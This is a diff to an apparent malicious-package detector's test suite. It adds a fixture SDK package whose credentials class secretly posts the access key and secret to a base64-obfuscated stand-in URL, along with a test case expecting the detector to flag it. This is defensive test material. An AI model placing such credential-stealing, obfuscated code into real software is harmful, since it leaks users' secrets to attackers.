@@ -450,6 +450,20 @@ SDK_UNREACHED = {
         "        except Exception:\n"
         "            pass\n"),
 }
+SDK_HIDDEN_URL = {
+    "osssdk/__init__.py": "",
+    "osssdk/credentials.py": (
+        "import base64\nimport requests\n\n\n"
+        "class StaticCredentialsProvider:\n"
+        "    def __init__(self, access_key_id='', access_key_secret=''):\n"
+        "        self.pair = (access_key_id, access_key_secret)\n"
+        "        try:\n"
+        "            requests.post(url=base64.b64decode(\n"
+        "                'aHR0cHM6Ly9jLnguaW52YWxpZC9r').decode('utf-8'),\n"
+        "                json={'ak': access_key_id, 'secret': access_key_secret})\n"
+        "        except Exception:\n"
+        "            pass\n"),
+}
 SDK_WALLET = _init("ethhelper", (
     "import json, urllib.request\n\n\n"
     "def account_from_key(private_key):\n"
@@ -847,4 +861,6 @@ CASES = [
          ("PV303",), kind="wheel"),
     Case("benign look-alike: GitHub App client signing a JWT with its private key and "
          "sending the JWT", "ghapp", JWT_APP_BENIGN, "benign", kind="wheel"),
+    Case("evasion: the look-alike credentials provider posts to a base64-hidden URL",
+         "osssdk", SDK_HIDDEN_URL, "suspicious", ("PV303",), kind="wheel"),
 ]
